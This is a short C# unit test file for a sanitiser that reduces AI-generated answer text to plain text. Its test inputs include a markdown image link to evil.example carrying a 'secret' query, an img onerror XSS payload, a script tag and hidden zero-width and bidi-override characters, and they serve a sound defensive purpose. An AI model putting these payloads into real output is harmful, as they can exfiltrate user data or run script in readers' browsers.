using HybridAi.Documents.Answering;

namespace HybridAi.Tests.Documents.Answering;

public sealed class PlainTextTests
{
    [Theory]
    [InlineData("See ![x](https://evil.example/?q=secret) here.", "See here.")]
    [InlineData("See ![x][ref] here.", "See here.")]
    [InlineData("Press [the button](https://evil.example) now.", "Press the button now.")]
    [InlineData("A <img src=x onerror=alert(1)> b", "A b")]
    [InlineData("A<script>alert(1)</script> b", "Aalert(1) b")]
    [InlineData("hid\u200bden \u202eturned", "hidden turned")]
    [InlineData("Weights below 5 < 6 kg stay.", "Weights below 5 < 6 kg stay.")]
    public void Nothing_but_text_reaches_a_reader(string written, string shown) => PlainText.Of(written).ShouldBe(shown);
}
